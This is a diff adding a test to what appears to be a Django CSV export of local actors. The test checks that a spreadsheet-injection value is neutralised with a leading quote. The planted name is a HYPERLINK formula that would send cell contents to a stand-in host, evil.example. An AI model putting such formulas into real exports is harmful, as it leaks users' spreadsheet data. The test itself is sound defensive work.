@@ -71,3 +71,10 @@ def test_a_contact_person_only_with_consent(client, schaerbeek):
 def test_the_csv_makes_the_same_number_of_queries_for_1_and_3_actors(client, schaerbeek):
     queries = assert_queries_do_not_grow(client, url("actors_csv"), lambda: actor_in(schaerbeek))
     assert queries <= 8, queries  # vocabularies, actors, three links, places (2), communes
+
+
+def test_a_cell_a_spreadsheet_would_run_is_made_inert(client, schaerbeek):
+    actor_in(schaerbeek, name_fr='=HYPERLINK("http://evil.example/?"&A1)', phone="+32 2 555 12 34")
+    rows = list(csv.reader(io.StringIO(client.get(url("actors_csv")).content.decode())))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + '=HYPERLINK("http://evil.example/?"&A1)' in cells and "'+32 2 555 12 34" in cells
